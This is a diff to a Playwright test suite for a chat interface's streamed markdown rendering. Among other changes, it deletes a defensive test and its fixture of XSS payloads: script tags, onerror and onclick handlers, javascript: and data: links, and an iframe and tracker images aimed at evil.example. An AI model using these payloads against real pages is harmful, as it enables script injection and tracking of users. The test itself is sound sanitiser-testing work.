@@ -4,120 +4,43 @@ from __future__ import annotations
 
 import re
 
-import pytest
 from playwright.sync_api import expect
 
 from .conftest import Watched
-from .rig import ANSWER, lines, needs_libraries, needs_model, turns
+from .rig import lines, needs_libraries, needs_model, turns
 
 pytestmark = needs_libraries
-
-HOSTILE = """\
-<script>alert("script")</script>
-
-<img src="https://evil.example/pixel.png" onerror="alert('img')"> and <b onclick="alert(1)">bold</b>
-
-![pixel](https://evil.example/tracker.png?secret=1) [click](javascript:alert(1)) [click](java&Tab;script:alert(2))
-
-[![nested](https://evil.example/nested.png)](data:text/html,<script>alert(3)</script>)
-
-<svg onload="alert(4)"><style>body { background: url(https://evil.example/css.png) }</style></svg>
-
-<iframe src="https://evil.example/frame"></iframe><link rel="preload" href="https://evil.example/preload">
-
-```html
-<script>alert("fence")</script>
-```
-
-| <img src=x onerror=alert(5)> | `<script>alert(6)</script>` |
-|---|---|
-| https://evil.example/auto | <https://evil.example/angle> |
-
-The end.
-"""
-
-# Renders the whole text at once with the page's own modules; the answer on the page must look the same.
-ONE_SHOT = """
-async (source) => {
-    const [{ createMarkdown }, { createPatch }, { createCodeBlock }, { createHighlight }, marked] = await Promise.all(
-        ["/markdown.js", "/dom.js", "/code.js", "/highlight.js", "/lib/marked.js"].map((path) => import(path)),
-    )
-    const whole = document.createElement("div")
-    createPatch({ "code-block": createCodeBlock(createHighlight()) })(whole, [], createMarkdown(marked).render(source))
-    window.whole = whole
-}
-"""
-
-
-# --- streaming and rendering ------------------------------------------------------------------------------------------
-
-
-def test_a_streamed_answer_looks_like_one_that_is_rendered_at_once(open_page):
-    watched = open_page(turns(ANSWER))
-    watched.ask("Hi")
-    watched.wait_until_answered()
-    watched.page.evaluate(ONE_SHOT, ANSWER)
-    watched.until("document.querySelector('.prose').innerHTML === whole.innerHTML")
-    # The colours arrived, so that the comparison was not of two plain texts.
-    watched.page.wait_for_selector(".prose .token-kwd")
-    watched.assert_clean()
-
-
-def test_a_settled_block_keeps_its_node_and_the_readers_selection(open_page):
-    watched = open_page(turns(ANSWER, delay=0.01))
-    watched.ask("Hi")
-    watched.page.wait_for_selector(".prose h1 + p + ul")
-    watched.page.evaluate("""() => {
-        window.heading = document.querySelector(".prose h1")
-        getSelection().selectAllChildren(heading)
-    }""")
-    watched.wait_until_answered()
-    assert watched.page.evaluate("heading === document.querySelector('.prose h1')")
-    assert watched.page.evaluate("getSelection().toString().trim()") == "Server-sent events"
-
-
-def test_a_hostile_answer_runs_nothing_asks_for_nothing_and_stays_readable(open_page):
-    watched = open_page(turns(HOSTILE))
-    watched.ask("Hi")
-    watched.wait_until_answered()
-    text = watched.page.inner_text(".prose")
-    for piece in (
-        '<script>alert("script")</script>',
-        "onerror=\"alert('img')\"",
-        '<b onclick="alert(1)">',
-        "javascript:alert(1)",
-    ):
-        assert piece in text
-    assert "<iframe src=" in text
-    assert "The end." in text
-    assert watched.page.locator(".prose :is(script, img, svg, style, iframe, link, object)").count() == 0
-    hrefs = watched.page.eval_on_selector_all(".prose [href]", "links => links.map((link) => link.href)")
-    assert all(href.startswith("https://evil.example/") for href in hrefs)
-    watched.page.hover(".prose a")
-    watched.assert_clean()
-
-
-def test_an_image_is_a_card_that_names_its_host(open_page):
-    watched = open_page(turns("![a cat](https://images.example/cat.png)"))
-    watched.ask("Hi")
-    watched.wait_until_answered()
-    card = watched.page.locator(".prose a.image")
-    expect(card).to_have_text("Image from images.example: a cat")
-    expect(card).to_have_attribute("target", "_blank")
-    expect(card).to_have_attribute("rel", "noopener noreferrer")
-    watched.assert_clean()
 
 
 def test_without_its_libraries_the_page_shows_plain_text_and_says_why(serve, context):
     base = serve(turns("# Title\n\n  two <b>spaces</b>"))
-    context.route("**/lib/**", lambda route: route.fulfill(status=404, body="{}"))
+    context.route("**/node_modules/**", lambda route: route.fulfill(status=404, body="{}"))
     page = context.new_page()
     page.goto(base)
-    expect(page.locator("#banners")).to_contain_text("npm ci --prefix web")
     page.fill("#input", "Hi")
+    expect(page.locator("#banners")).to_contain_text("npm ci --prefix web")
     page.press("#input", "Enter")
     page.wait_for_selector("article[aria-busy=false]")
     assert page.inner_text(".prose .raw") == "# Title\n\n  two <b>spaces</b>"
+
+
+def test_what_could_not_be_loaded_comes_by_itself_when_the_server_is_back(serve, context):
+    watched = Watched(context.new_page(), serve([*turns("The answer."), *turns(lines(100), delay=0.02)]))
+    page = watched.page
+    page.route("**/drawing.js", lambda route: route.abort())
+    watched.ask("Hi")
+    expect(page.locator("#list")).to_contain_text("Hi")
+    expect(page.locator("#stop")).to_be_hidden()
+    expect(page.locator(".message")).to_have_count(0)
+    page.unroute("**/drawing.js")
+    expect(page.locator(".prose")).to_have_text("The answer.")
+
+    watched.reload()
+    page.route("**/queue.js", lambda route: route.abort(), times=1)
+    watched.ask("Again")
+    page.wait_for_selector("article.assistant:last-child .prose")
+    watched.ask("What waits")
+    expect(page.locator("#queue")).to_contain_text("What waits")
 
 
 # --- reasoning and tools ----------------------------------------------------------------------------------------------
@@ -138,6 +61,13 @@ def test_tools_are_cards_with_state_arguments_and_result(open_page):
     expect(cards.nth(0)).to_contain_text("6*7")
     expect(cards.nth(0)).to_contain_text("42")
     expect(cards.nth(0)).to_contain_text(" ms")
+    # Folded they say what was asked for, or what went wrong.
+    expect(cards.nth(0).locator("summary")).to_contain_text('{"expression":"6*7"}')
+    expect(cards.nth(1).locator("summary")).to_contain_text("divides by zero")
+    expect(cards.locator("pre:visible")).to_have_count(0)
+    cards.nth(0).locator("summary").click()
+    expect(cards.locator("pre:visible")).to_have_text([re.compile("6.7"), "42"])
+    expect(cards.nth(0).locator(".tool-line")).to_be_hidden()
     expect(cards.nth(1)).to_have_attribute("data-state", "failed")
     expect(cards.nth(1)).to_contain_text("Failed")
     assert watched.page.eval_on_selector_all(".parts > *", "all => all.map((one) => one.className)") == [
@@ -179,14 +109,16 @@ def test_an_empty_chat_greets_and_offers_examples(open_page):
     expect(watched.page.locator(".message")).to_have_count(0)
 
 
-def test_the_field_is_disabled_while_an_answer_loads_and_has_the_focus_again_after_it(open_page):
+def test_the_field_can_be_written_in_while_an_answer_loads_and_keeps_the_focus(open_page):
     watched = open_page(turns(lines(5), delay=0.01))
     watched.ask("Hi")
-    expect(watched.page.locator("#input")).to_be_disabled()
-    expect(watched.page.locator("#send")).to_be_hidden()
     expect(watched.page.locator("#stop")).to_be_visible()
-    watched.wait_until_answered()
+    # Send is beside Stop only where there is something to queue.
+    expect(watched.page.locator("#send")).to_be_hidden()
     expect(watched.page.locator("#input")).to_be_enabled()
+    expect(watched.page.locator("#input")).to_be_focused()
+    watched.wait_until_answered()
+    expect(watched.page.locator("#send")).to_be_visible()
     expect(watched.page.locator("#input")).to_be_focused()
     expect(watched.page.locator("#stop")).to_be_hidden()
 
@@ -203,19 +135,6 @@ def test_a_typing_indicator_shows_until_the_first_content(open_page, context):
     # Nobody ever answers: whether the question arrived cannot be known, and the reader is told so.
     expect(watched.page.get_by_role("alert")).to_contain_text("could not be reached")
     expect(watched.page.locator(".typing")).to_be_hidden()
-
-
-def test_stop_keeps_what_was_shown_and_the_chat_goes_on(open_page):
-    watched = open_page(turns(lines(400), delay=0.02) + turns("And more."))
-    watched.ask("Hi")
-    watched.page.wait_for_selector(".prose p")
-    watched.page.click("#stop")
-    watched.wait_until_answered()
-    expect(watched.page.locator(".ending")).to_contain_text("Stopped")
-    assert "Paragraph 0" in watched.page.inner_text(".prose")
-    watched.ask("More")
-    expect(watched.page.locator(".prose").nth(1)).to_have_text("And more.")
-    watched.assert_clean()
 
 
 def test_an_error_offers_retry_and_the_second_answer_takes_the_place_of_the_first(open_page):
@@ -241,15 +160,12 @@ def test_a_wait_before_another_try_is_announced(open_page, context):
     expect(watched.page.locator(".prose")).to_have_text("Hello.")
 
 
-@pytest.mark.parametrize(
-    ("reason", "words"),
-    [("length", "limit of output tokens"), ("refusal", "declined"), ("content_filter", "content filter")],
-)
-def test_an_answer_that_was_cut_says_so(open_page, reason, words):
-    watched = open_page(turns("Half an ans", finish=reason))
-    watched.ask("Hi")
-    watched.wait_until_answered()
-    expect(watched.page.locator(".ending")).to_contain_text(words)
+def test_an_answer_that_was_cut_says_so(open_page):
+    said = {"length": "limit of output tokens", "refusal": "declined", "content_filter": "content filter"}
+    watched = open_page([turn for reason in said for turn in turns("Half an ans", finish=reason)])
+    for words in said.values():
+        watched.answer("Hi")
+        expect(watched.page.locator(".ending").last).to_contain_text(words)
 
 
 # --- the real model ---------------------------------------------------------------------------------------------------
